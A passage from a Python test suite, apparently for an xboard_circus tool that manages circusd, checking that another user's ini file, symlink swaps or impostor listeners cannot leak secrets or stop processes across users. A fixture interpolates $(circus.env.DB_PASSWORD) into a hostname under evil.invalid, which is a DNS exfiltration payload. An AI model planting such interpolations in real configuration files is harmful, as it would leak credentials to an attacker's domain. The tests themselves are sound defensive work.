    when that file names its port as endpoint, then root's commands take it for no circusd, and end nothing."""
    monkeypatch.setenv("XBOARD_RUNTIME_DIR", str(tmp_path / "r"))
    ini = folder_of_theirs / "server.ini"
    with socket.create_server(("127.0.0.1", 0)) as handed:
        ini.write_text(f"[circus]\nendpoint = tcp://127.0.0.1:{handed.getsockname()[1]}\n")
        os.chown(ini, pwd.getpwnam(USER).pw_uid, -1)
        command = [PYTHON, "-I", "-c", "import sys; sys.stdin.read()", str(ini)]
        server = subprocess.Popen(
            command,
            user="daemon",
            group="daemon",
            extra_groups=[],
            cwd="/",
            env={},
            stdin=subprocess.PIPE,
            pass_fds=[handed.fileno()],
        )
    try:
        with pytest.raises(EndpointTaken, match="does not answer as circusd does"):
            Instance(ini, answer_within=0.5).find()
    finally:
        server.communicate()


LISTENS = """
import socket, sys
server = socket.create_server(("127.0.0.1", 0))
print(server.getsockname()[1], flush=True)
sys.stdin.read()
"""


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
def test_who_puts_a_link_in_the_place_of_his_ini_has_no_stranger_stopped(tmp_path: Path) -> None:
    """Given an ini of another user, when a link to the file of a server takes its place, then that is no circusd."""
    served = tmp_path / "server.cfg"
    served.touch()
    command = [PYTHON, "-I", "-c", LISTENS, str(served)]
    folder = Path(tempfile.mkdtemp(prefix="xb-links-", dir="/tmp"))
    ini, link = folder / "circus.ini", folder / "link.ini"
    user = pwd.getpwnam(USER).pw_uid
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as server:
        try:
            assert server.stdout is not None
            ini.write_text(f"[circus]\nendpoint = tcp://127.0.0.1:{server.stdout.readline().strip()}\n")
            link.symlink_to(served)
            for path in (folder, ini, link):
                os.chown(path, user, -1, follow_symlinks=False)
            instance = Instance(ini, answer_within=0.5)
            link.rename(ini)
            with pytest.raises(EndpointTaken, match="does not answer as circusd does"):
                instance.find()
            # A link by itself would name a circusd of root's.
            ours = tmp_path / "circus.ini"
            ours.write_text("[circus]\n")
            ini.unlink()
            ini.symlink_to(ours)
            os.chown(ini, user, -1, follow_symlinks=False)
            with pytest.raises(XboardError, match=f"a link of {USER}'s leads to another user's {ours}"):
                Instance(ini)
            os.chown(ours, user, -1)
            assert Instance(ini).id == Instance(ours).id  # its own, such as that of a release
        finally:
            server.kill()
            shutil.rmtree(folder)


@pytest.mark.skipif(not os.access(PYTHON, os.X_OK), reason="no Python that another user could run")
@pytest.mark.parametrize("named", ["a process", "the command", "its shell"])
def test_what_an_ini_of_anothers_names_as_circusd_gets_its_owner_nothing(
    open_folder: Path,  # noqa: F811
    python: str,  # noqa: F811
    named: str,
) -> None:
    """Given a user's listener, on which another answers as the circusd of an ini of his own, with a process of that
    user's: when that user stops it, then his `status` still puts no variable of his into that ini; and the command that
    he runs, and its shell, are no circusd."""
    folder, ours = open_folder / f"theirs-{named[-5:]}", open_folder / f"ours-{named[-5:]}"
    folder.mkdir()
    ours.mkdir(0o700)
    shutil.chown(ours, USER)
    os.seteuid(pwd.getpwnam(USER).pw_uid)
    try:
        handed = socket.create_server(("127.0.0.1", 0))
    finally:
        os.seteuid(0)
    endpoint = f"tcp://127.0.0.1:{handed.getsockname()[1]}"
    web = Watcher(options={"graceful_timeout": 0.1})
    with handed, circusd(folder, watchers=[web], circus={"endpoint": endpoint}, start=False) as c:
        for place in (folder, c.ini):
            shutil.chown(place, "daemon")
        env = {
            "XBOARD_RUNTIME_DIR": str(ours / "r"),
            "XB_SECRET": "127.0.0.1:1",
            **library_path(open_folder / "python"),
        }
        command = [python, "-m", "xboard_circus", "stop", "-c", str(c.ini)]
        as_user: dict[str, Any] = {
            "user": USER,
            "group": USER,
            "extra_groups": [],
            "cwd": "/",
            "env": env,
            "text": True,
        }

        script = {"a process": "exec sleep 600", "the command": 'read _; exec "$@"'}.get(named, 'read _; "$@"; exit $?')
        popen = subprocess.Popen(
            ["/bin/sh", "-c", script, "sh", *command], stdin=subprocess.PIPE, stderr=subprocess.PIPE, **as_user
        )
        try:
            of_circusd = {"pid": popen.pid, "started": process(popen.pid).started, "version": "0.1.0"}
            of_circusd |= {"python": "3.13.5", "uptime": 60.0, "instance": "3f2a", "state_dir": "/r"}
            of_circusd |= {"endpoint": endpoint, "config_file": str(c.ini)}
            answer = {"circusd": of_circusd, "probers": [], "watchers": []}
            with impostor(c, answer, "daemon", handed=handed.fileno()) as false:
                if named != "a process":
                    _, errors = popen.communicate("\n", timeout=90)
                    assert f"is user {USER}'s, and which this command is, or runs under: it is not believed" in errors
                    assert (popen.returncode, "quit" in false.asked) == (1, False)
                    return
                stopped = subprocess.run(command, capture_output=True, check=False, **as_user)
            assert (stopped.returncode, popen.wait(90)) == (0, -signal.SIGKILL), stopped
            assert list((ours / "r").glob("*/circusd.json")), "no record of what was stopped"
            c.ini.write_text("[circus]\nendpoint = tcp://$(circus.env.XB_SECRET)\n")
            command[3] = "status"
            status = subprocess.run(command, capture_output=True, check=False, **as_user)
            assert "does not run" in status.stderr
            assert env["XB_SECRET"] not in status.stderr, status
        finally:
            popen.kill()
            popen.communicate()


NAME = "$(circus.env.DB_PASSWORD).evil.invalid"


@pytest.mark.parametrize("author", ["owner", "group", "include"])
@pytest.mark.parametrize("whose", ["root", USER])
def test_an_ini_of_another_users_includes_nothing_that_its_owner_may_not_read(
    open_folder: Path,  # noqa: F811
    python: str,  # noqa: F811
    whose: str,
    author: str,
) -> None:
    """Given a file that root, or an operator, alone may read, which another user's ini includes, or one that another
    may write by its group, or that includes a file of another's too, also through a link or a pattern, and the name of
    a host there that has its values, when its reader looks at that ini, then the include is refused with the file and
    the other user, and no value is looked up; what both may read is included."""
    with contextlib.ExitStack() as ended:
        folder = Path(ended.enter_context(tempfile.TemporaryDirectory(dir=open_folder)))
        (theirs := folder / "theirs").mkdir(0o755)
        (closed := folder / "closed").mkdir(0o700)
        folder.chmod(0o755)
        (secret := closed / "secret.ini").write_text("[env]\nDB_PASSWORD = s3cret\n")  # of mode 644
        (theirs / "link.ini").symlink_to(secret)
        (theirs / "own").mkdir()
        (theirs / "own/own.ini").write_text("[watcher:web]\ncmd = sleep 1\n")
        ini = theirs / "circus.ini"
        for path in (theirs, *theirs.iterdir(), theirs / "own/own.ini"):
            shutil.chown(path, "daemon")
        for path in (closed, secret):
            shutil.chown(path, whose)
        env = library_path(open_folder / "python") if python != sys.executable else {}
        env |= {"XBOARD_RUNTIME_DIR": str(closed / "r"), "XBOARD_STATE_DIR": str(closed / "r")}

        def status(include: str, host: str) -> subprocess.CompletedProcess[str]:
            lines = ("[circus]", include, f"endpoint = tcp://{host}:1", "pubsub_endpoint = tcp://127.0.0.1:2")
            ini.write_text("\n".join(lines))
            shutil.chown(ini, "daemon" if author == "owner" else whose, "daemon")
            ini.chmod(0o664 if author == "group" else 0o644)
            return completed_as(whose, [python, "-m", "xboard_circus", "status", "-c", str(ini)], **env)

        for include in (
            f"include = own/own.ini {secret}",
            "include = link.ini own/own.ini",
            f"include_dir = {closed} own",
        ):
            refused = status(include, NAME)
            file = "link.ini" if "link" in include else str(secret)
            assert refused.returncode == 1, refused
            assert (
                f"{file}: cannot be read: daemon, who may write what includes it, may not; take it out"
                in refused.stderr
            )
            assert "s3cret" not in refused.stderr
        assert "circusd of" in status("include = own/own.ini", "127.0.0.1").stderr
        shutil.chown(closed, whose, "daemon")
        closed.chmod(0o750)
        assert "s3cret.evil.invalid" in status(f"include = {secret} own/own.ini", NAME).stderr  # the trap is sound
